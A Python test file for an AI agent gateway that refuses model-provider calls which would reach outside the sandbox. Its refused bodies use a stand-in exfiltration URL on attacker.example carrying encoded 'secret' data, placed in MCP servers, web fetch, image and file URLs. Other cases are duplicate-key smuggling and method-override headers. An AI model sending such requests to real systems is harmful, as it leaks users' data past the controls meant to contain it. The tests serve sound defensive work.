"""The gateway's body, header and query allowlists, attacked (security review 2,
findings 2 and 12), against the fake providers of ``test_gateway``.

Every body here is an allowed call (method, path, model) whose *content* asks
the provider to reach out (MCP connectors, web fetch/search, URL context, image
URLs), to read state the task never made (stored responses, threads, cached
contents), or to be read differently by the provider than by piwork (duplicate
keys, method overrides). Each is refused with its reason, and the fake
upstream sees nothing at all.
"""

from __future__ import annotations

import json
from typing import Any

import aiohttp
import pytest
from aiohttp import web

from piwork.models.providers import GUEST_PLACEHOLDER_KEY, Provider
from piwork.proxy.gateway import ModelGateway, UsageRecord
from piwork.proxy.schema import ServerToolUse
from tests.helpers.gateway import (
    ANTHROPIC_KEY,
    PLACEHOLDER_AUTH,
    FakeUpstream,
    World,
    _dict_keys,
    _serve,
    sse,
)

EXFIL = "https://attacker.example/mcp?d=c2VjcmV0LWZyb20tdGhlLWZvbGRlcg"
USER = [{"role": "user", "content": "summarise the folder"}]


def anthropic(**extra: Any) -> dict[str, Any]:
    return {"model": "claude-test", "max_tokens": 100, "stream": True, "messages": USER, **extra}


def responses(**extra: Any) -> dict[str, Any]:
    return {"model": "gpt-resp", "input": "summarise the folder", "stream": True, **extra}


def chat(**extra: Any) -> dict[str, Any]:
    return {"model": "gpt-test", "messages": USER, "stream": True, **extra}


def gemini(**extra: Any) -> dict[str, Any]:
    return {"contents": [{"role": "user", "parts": [{"text": "see " + EXFIL}]}], **extra}


MESSAGES = "/p/anthropic-test/v1/messages"
RESPONSES = "/p/openai-resp-test/v1/responses"
CHAT = "/p/openai-test/v1/chat/completions"
GENERATE = "/p/google-test/v1beta/models/gemini-test:streamGenerateContent?alt=sse"

# (what, path, extra headers, body, status, a phrase the reason must hold)
REFUSED: list[tuple[str, str, dict[str, str], Any, int, str]] = [
    # --- the review's server-tool bodies ------------------------------------------------
    (
        "anthropic mcp_servers with its beta",
        MESSAGES,
        {"anthropic-beta": "mcp-client-2025-04-04"},
        anthropic(mcp_servers=[{"type": "url", "url": EXFIL, "name": "x"}]),
        403,
        "mcp is a provider-side tool",
    ),
    (
        "anthropic mcp_servers without the beta",
        MESSAGES,
        {},
        anthropic(mcp_servers=[{"type": "url", "url": EXFIL, "name": "x"}]),
        403,
        "mcp_servers: mcp is a provider-side tool",
    ),
    (
        "anthropic web_fetch",
        MESSAGES,
        {"anthropic-beta": "web-fetch-2025-09-10"},
        anthropic(
            messages=[{"role": "user", "content": f"fetch {EXFIL}"}],
            tools=[{"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 5}],
        ),
        403,
        "web_fetch is a provider-side tool",
    ),
    (
        "anthropic web_fetch, body alone",
        MESSAGES,
        {},
        anthropic(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
        403,
        "tools[0]: web_fetch is a provider-side tool",
    ),
    (
        "anthropic web_search",
        MESSAGES,
        {},
        anthropic(tools=[{"type": "web_search_20250305", "name": "web_search"}]),
        403,
        "web_search is a provider-side tool",
    ),
    (
        "anthropic code execution",
        MESSAGES,
        {},
        anthropic(tools=[{"type": "code_execution_20250825", "name": "code_execution"}]),
        403,
        "code_execution is a provider-side tool",
    ),
    (
        "anthropic computer use (an Anthropic-defined tool)",
        MESSAGES,
        {},
        anthropic(tools=[{"type": "computer_20250124", "name": "computer"}]),
        403,
        "a tool Anthropic defines",
    ),
    (
        "openai responses mcp",
        RESPONSES,
        {},
        responses(
            tools=[
                {
                    "type": "mcp",
                    "server_label": "x",
                    "server_url": EXFIL,
                    "require_approval": "never",
                }
            ]
        ),
        403,
        "mcp is a provider-side tool",
    ),
    (
        "openai responses connector",
        RESPONSES,
        {},
        responses(tools=[{"type": "mcp", "server_label": "g", "connector_id": "connector_gmail"}]),
        403,
        "an OpenAI connector",
    ),
    (
        "openai responses web_search",
        RESPONSES,
        {},
        responses(tools=[{"type": "web_search"}]),
        403,
        "web_search is a provider-side tool",
    ),
    (
        "openai responses file_search",
        RESPONSES,
        {},
        responses(tools=[{"type": "file_search", "vector_store_ids": ["vs_1"]}]),
        403,
        "a tool OpenAI defines",
    ),
    (
        "openai chat web_search_options",
        CHAT,
        {},
        chat(web_search_options={}),
        403,
        "web_search is a provider-side tool",
    ),
    (
        "openrouter web plugin",
        CHAT,
        {},
        chat(plugins=[{"id": "web"}]),
        403,
        "web_search is a provider-side tool",
    ),
    (
        "gemini url_context (snake case, as in the review)",
        GENERATE,
        {},
        gemini(tools=[{"url_context": {}}]),
        403,
        "url_context is a provider-side tool",
    ),
    (
        "gemini urlContext",
        GENERATE,
        {},
        gemini(tools=[{"urlContext": {}}]),
        403,
        "url_context is a provider-side tool",
    ),
    (
        "gemini google_search",
        GENERATE,
        {},
        gemini(tools=[{"googleSearch": {}}]),
        403,
        "google_search is a provider-side tool",
    ),
    # --- URL fetchers in the content ---------------------------------------------------
    (
        "anthropic image by URL",
        MESSAGES,
        {},
        anthropic(
            messages=[
                {
                    "role": "user",
                    "content": [{"type": "image", "source": {"type": "url", "url": EXFIL}}],
                }
            ]
        ),
        403,
        "only base64 images are forwarded",
    ),
    (
        "anthropic document by URL",
        MESSAGES,
        {},
        anthropic(
            messages=[
                {
                    "role": "user",
                    "content": [{"type": "document", "source": {"type": "url", "url": EXFIL}}],
                }
            ]
        ),
        403,
        "'document' is not one pi sends",
    ),
    (
        "openai chat image by URL",
        CHAT,
        {},
        chat(
            messages=[
                {"role": "user", "content": [{"type": "image_url", "image_url": {"url": EXFIL}}]}
            ]
        ),
        403,
        "a web URL here is one the provider would fetch",
    ),
    (
        "openai responses image by URL",
        RESPONSES,
        {},
        responses(
            input=[{"role": "user", "content": [{"type": "input_image", "image_url": EXFIL}]}]
        ),
        403,
        "a web URL here is one the provider would fetch",
    ),
    (
        "openai responses file by URL",
        RESPONSES,
        {},
        responses(input=[{"role": "user", "content": [{"type": "input_file", "file_url": EXFIL}]}]),
        403,
        "input_file and file ids",
    ),
    (
        "gemini fileData",
        GENERATE,
        {},
        {"contents": [{"role": "user", "parts": [{"fileData": {"fileUri": EXFIL}}]}]},
        403,
        "the provider fetches it",
    ),
    # --- state the task never made --------------------------------------------------------
    (
        "openai previous_response_id",
        RESPONSES,
        {},
        responses(previous_response_id="resp_of_another_task"),
        403,
        "a stored response",
    ),
    ("openai conversation", RESPONSES, {}, responses(conversation="conv_1"), 403, "stored"),
    ("openai stored prompt", RESPONSES, {}, responses(prompt={"id": "pmpt_1"}), 403, "stored"),
    ("openai store: true", RESPONSES, {}, responses(store=True), 403, "not a value pi sends"),
    (
        "openai item_reference",
        RESPONSES,
        {},
        responses(input=[{"type": "item_reference", "id": "msg_1"}]),
        403,
        "a stored item",
    ),
    (
        "anthropic thread",
        MESSAGES,
        {},
        anthropic(thread={"type": "continue", "previous_message_id": "msg_1"}),
        403,
        "a stored conversation thread",
    ),
    ("anthropic container", MESSAGES, {}, anthropic(container="cntr_1"), 403, "container"),
    (
        "gemini cachedContent",
        GENERATE,
        {},
        gemini(cachedContent="cachedContents/abc"),
        403,
        "cached contents",
    ),
    # --- finding 12, and read-differently ------------------------------------------------
    ("method override", CHAT, {"X-HTTP-Method-Override": "DELETE"}, chat(), 400, "method-override"),
    ("X-HTTP-Method", CHAT, {"X-HTTP-Method": "DELETE"}, chat(), 400, "method-override"),
    ("X-Method-Override", CHAT, {"X-Method-Override": "PUT"}, chat(), 400, "method-override"),
    (
        "an unknown beta",
        MESSAGES,
        {"anthropic-beta": "files-api-2025-04-14"},
        anthropic(),
        403,
        "is not one pi uses",
    ),
    (
        "another API version",
        MESSAGES,
        {"anthropic-version": "2099-01-01"},
        anthropic(),
        403,
        "version",
    ),
    ("a compressed body", CHAT, {"Content-Encoding": "gzip"}, chat(), 400, "compressed"),
    ("an unknown top-level key", CHAT, {}, chat(n=64), 403, "several answers"),
    ("openrouter fallback models", CHAT, {}, chat(models=["openai/o3-pro"]), 403, "fall back"),
    ("a query parameter pi never sends", CHAT + "?stream=false", {}, chat(), 403, "?stream"),
]


@pytest.mark.parametrize(
    ("what", "path", "headers", "body", "status", "reason"), REFUSED, ids=[r[0] for r in REFUSED]
)
async def test_a_call_asking_the_provider_to_reach_out_is_refused_and_never_sent(
    world: World,
    what: str,
    path: str,
    headers: dict[str, str],
    body: Any,
    status: int,
    reason: str,
) -> None:
    async with world.client.post(
        world.url(path), headers={**PLACEHOLDER_AUTH, **headers}, json=body
    ) as resp:
        text = await resp.text()
        assert resp.status == status, (what, text)
    payload = json.loads(text)
    message = payload["error"]["message"] if "error" in payload else payload["message"]
    assert message.startswith("piwork gateway: "), message
    assert reason in message, (what, message)
    assert world.openai.seen == world.anthropic.seen == world.google.seen == []


async def test_a_key_given_twice_is_refused_whatever_its_values(world: World) -> None:
    """Finding 12: ``{"model": allowed, "model": other}``: orjson read the last key,
    a provider may read the first. Refused at any depth, raw bytes as sent."""
    twice = (
        b'{"model":"gpt-test","model":"gpt-pricey","messages":[]}',
        b'{"model":"gpt-test","messages":[{"role":"user","content":"a","content":"b"}]}',
    )
    gw = ModelGateway(world.providers, _dict_keys, allowed_models=("gpt-test",))
    async with gw:
        for raw in twice:
            async with world.client.post(
                f"{gw.url}{CHAT}",
                headers={**PLACEHOLDER_AUTH, "Content-Type": "application/json"},
                data=raw,
            ) as resp:
                assert resp.status == 400, await resp.text()
                assert "appears twice" in (await resp.json())["error"]["message"]
    assert world.openai.seen == []


async def test_what_goes_upstream_is_the_checked_value_re_serialised(world: World) -> None:
    """Whitespace, escapes and key spellings are the gateway's, not the guest's; a
    header outside the allowlist is dropped, the method stays what was checked."""
    raw = (
        b'{ "model" : "gpt-test",\n "messages": [{"role":"user","content":"\\u0068i"}],'
        b'\n "stream": true}'
    )
    async with world.client.post(
        world.url(CHAT),
        headers={**PLACEHOLDER_AUTH, "Content-Type": "text/plain", "X-Forwarded-Host": "x"},
        data=raw,
    ) as resp:
        world.openai.gate.set()
        assert resp.status == 200, await resp.text()
        await resp.read()
    [seen] = world.openai.seen
    assert seen.method == "POST"
    assert (
        seen.body
        == b'{"model":"gpt-test","messages":[{"role":"user","content":"hi"}],"stream":true}'
    )
    assert seen.headers["content-type"] == "application/json"
    assert "x-forwarded-host" not in seen.headers


async def test_fallback_models_are_removed_not_forwarded(world: World) -> None:
    """pi 1.6 sends ``fallbacks`` for a few Anthropic models: a task has one model,
    so they (and their beta) are taken out and the call goes on with that model."""
    world.anthropic.gate.set()
    async with world.client.post(
        world.url(MESSAGES + "?beta=true"),
        headers={
            **PLACEHOLDER_AUTH,
            "anthropic-beta": "server-side-fallback-2026-07-01,interleaved-thinking-2025-05-14",
        },
        json=anthropic(fallbacks=[{"model": "claude-opus-4-8"}]),
    ) as resp:
        assert resp.status == 200, await resp.text()
        await resp.read()
    [seen] = world.anthropic.seen
    assert "fallbacks" not in json.loads(seen.body)
    assert seen.headers["anthropic-beta"] == "interleaved-thinking-2025-05-14"
    assert seen.query == {"beta": "true"}


# --- provider-side tools the person enabled ------------------------------------------------


async def anthropic_with_server_tools(fake: FakeUpstream, searches: int) -> web.Application:
    """Anthropic answering after ``searches`` web searches, as its usage reports them."""

    async def messages(request: web.Request) -> web.StreamResponse:
        await fake.record(request)
        resp = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await resp.prepare(request)
        start = {"id": "m", "type": "message", "role": "assistant", "model": "claude-test",
                 "content": [], "usage": {"input_tokens": 10, "output_tokens": 1}}  # fmt: skip
        await resp.write(
            sse({"type": "message_start", "message": start}, "message_start")
            + sse(
                {
                    "type": "message_delta",
                    "delta": {"stop_reason": "end_turn"},
                    "usage": {
                        "output_tokens": 5,
                        "server_tool_use": {"web_search_requests": searches},
                    },
                },
                "message_delta",
            )
            + sse({"type": "message_stop"}, "message_stop")
        )
        await resp.write_eof()
        return resp

    app = web.Application()
    app.router.add_post("/v1/messages", messages)
    return app


async def test_an_enabled_server_tool_asks_like_a_destination_and_is_counted() -> None:
    fake = FakeUpstream()
    runner, url = await _serve(await anthropic_with_server_tools(fake, searches=3))
    provider = Provider(name="anthropic-test", api="anthropic-messages", base_url=url,
                        auth="x-api-key")  # fmt: skip
    asked: list[tuple[str, ServerToolUse]] = []
    answers = {"attacker.example": False}
    usage: list[UsageRecord] = []

    async def ask(name: str, use: ServerToolUse) -> bool:
        asked.append((name, use))
        return all(answers.get(d, True) for d in use.destinations)

    gw = ModelGateway(
        [provider],
        _dict_keys,
        server_tools=("web_search", "mcp"),
        ask_server_tool=ask,
        on_usage=usage.append,
    )
    headers = {"x-api-key": GUEST_PLACEHOLDER_KEY, "anthropic-beta": "mcp-client-2025-04-04"}
    try:
        async with gw, aiohttp.ClientSession() as client:
            # An MCP server on a host the person said no to: refused, never sent.
            mcp = anthropic(mcp_servers=[{"type": "url", "url": EXFIL, "name": "x"}])
            async with client.post(f"{gw.url}{MESSAGES}", headers=headers, json=mcp) as resp:
                assert resp.status == 403
                assert "attacker.example" in (await resp.json())["message"]
            # A second call asks nothing again (one answer per destination per run).
            async with client.post(f"{gw.url}{MESSAGES}", headers=headers, json=mcp) as resp:
                assert resp.status == 403
            assert fake.seen == []
            # Web search limited to docs.python.org: asked about that host, allowed, sent.
            search = anthropic(
                tools=[
                    {
                        "type": "web_search_20250305",
                        "name": "web_search",
                        "allowed_domains": ["docs.python.org"],
                    }
                ]
            )
            async with client.post(f"{gw.url}{MESSAGES}", headers=headers, json=search) as resp:
                assert resp.status == 200, await resp.text()
                await resp.read()
    finally:
        await runner.cleanup()
    assert [(n, u.kind, u.destinations) for n, u in asked] == [
        ("anthropic-test", "mcp", ("attacker.example",)),
        ("anthropic-test", "web_search", ("docs.python.org",)),
    ]
    [sent] = fake.seen
    assert json.loads(sent.body)["tools"][0]["allowed_domains"] == ["docs.python.org"]
    assert sent.headers["x-api-key"] == ANTHROPIC_KEY
    [rec] = usage
    assert rec.server_tool_calls == {"web_search": 3}
    assert rec.cost_usd == pytest.approx(0.03)  # $10 per 1,000 searches


async def test_with_no_one_to_ask_an_enabled_server_tool_is_refused(world: World) -> None:
    gw = ModelGateway(world.providers, _dict_keys, server_tools=("web_search",))
    async with gw:
        body = anthropic(tools=[{"type": "web_search_20250305", "name": "web_search"}])
        async with world.client.post(
            f"{gw.url}{MESSAGES}", headers=PLACEHOLDER_AUTH, json=body
        ) as resp:
            assert resp.status == 403
            assert "(any site) was not allowed" in (await resp.json())["message"]
    assert world.anthropic.seen == []


def test_the_gateway_settings_name_known_kinds_only(tmp_path: Any) -> None:
    from piwork.proxy.settings import load_gateway_settings
    from piwork.settings import SettingsError

    path = tmp_path / "settings.json"
    assert load_gateway_settings(path).server_tools == frozenset()  # none by default
    path.write_text('{"gateway": {"serverTools": ["web_search", "mcp"]}}')
    assert load_gateway_settings(path).server_tools == {"web_search", "mcp"}
    path.write_text('{"gateway": {"serverTools": ["file_search"]}}')
    with pytest.raises(SettingsError, match=r"gateway.serverTools.*file_search.*known: web_search"):
        load_gateway_settings(path)
